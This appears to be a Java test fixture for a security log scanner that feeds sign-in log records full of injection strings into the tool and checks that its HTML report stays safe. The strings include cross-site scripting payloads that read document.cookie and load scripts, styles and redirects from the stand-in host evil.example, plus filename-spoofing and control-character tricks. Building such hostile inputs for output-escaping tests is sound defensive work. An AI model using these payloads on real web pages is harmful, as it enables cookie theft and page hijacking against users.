package dev.gatehouse.cli.report.html;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.gatehouse.cli.Cli;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;

/** Logs that attack whoever reads the report on them. */
final class HostileLogs {
    /** A host that nothing may ask. */
    static final String HOST = "evil.example";

    /** Texts that would be more than text, each with the words "payload" in it. */
    static final List<String> TEXTS = List.of(
            "<script>payload(document.cookie)</script>",
            "\"><img src=\"https://" + HOST + "/payload.png\" onerror='payload()'>",
            "'-payload()-'",
            "</title></style></script><script src=https://" + HOST + "/payload.js></script>",
            "<svg/onload=payload()><style>@import 'https://" + HOST + "/payload.css';</style>",
            "--><!-- payload ]]> <![CDATA[ payload",
            "&lt;payload&gt; &#60;payload&#62; &payload;",
            "payload\u202Efdp.exe\u2066\u200B",
            "payload\u0000\u0007\u001B[31m\r\n\t\u2028",
            "payload \uD83D and \uDC00\uFFFE",
            "payload ".repeat(20_000),
            "payload<iframe srcdoc='<script>payload()</script>'></iframe><base href=//" + HOST + ">",
            "{{payload}} ${payload} <%= payload %> javascript:payload()",
            "<meta http-equiv=refresh content='0;url=https://" + HOST + "/payload'>");

    private static final ObjectMapper JSON =
            new ObjectMapper().enable(JsonWriteFeature.ESCAPE_NON_ASCII.mappedFeature());

    private static final String RULE = """
            title: A <script>payload()</script> title & more
            id: 3a1d9c5e-0000-4000-8000-000000000001
            logsource: {product: azure, service: signinlogs}
            detection:
              selection: {ResultType: 50053, UserPrincipalName|contains: payload}
              condition: selection
            level: high
            custom:
              rows: [row-<i>]
              summary: '{UserPrincipalName} by {AppDisplayName} from {IPAddress}'
              advice: Do <b>nothing</b> "of" 'that'.
            """;

    private HostileLogs() {}

    /** Scans them, and answers the report. */
    static String report(Path folder) throws IOException {
        StringBuilder records = new StringBuilder();
        for (int i = 0; i < TEXTS.size(); i++) {
            ObjectNode record = JSON.createObjectNode();
            record.put("id", TEXTS.get(i));
            record.put("createdDateTime", "2026-05-04T08:00:" + (10 + i) + "Z");
            record.put("userDisplayName", TEXTS.get(i));
            record.put("userPrincipalName", TEXTS.get(i));
            record.put("userId", "user-" + i);
            record.put("appDisplayName", TEXTS.get(i));
            record.put("ipAddress", TEXTS.get(i));
            record.put("clientAppUsed", "Browser");
            record.put("isInteractive", true);
            record.putObject("status").put("errorCode", 50053).put("failureReason", TEXTS.get(i));
            records.append(JSON.writeValueAsString(record)).append('\n');
        }
        records.append("{\"<script>payload()</script>\": broken\n");
        Path home = folder.resolve("home");
        Cli.write(home, "detections/rules.yml", RULE);
        Cli.write(folder, "logs/it's & payload.json", records.toString());
        Cli.Ran ran = Cli.at(home)
                .run(
                        "scan",
                        folder.resolve("logs").toString(),
                        "--no-catalogue",
                        "--rules",
                        home.resolve("detections").toString(),
                        "--format",
                        "html");
        assertThat(ran.code()).as(ran.err()).isLessThan(2);
        return ran.out();
    }
}
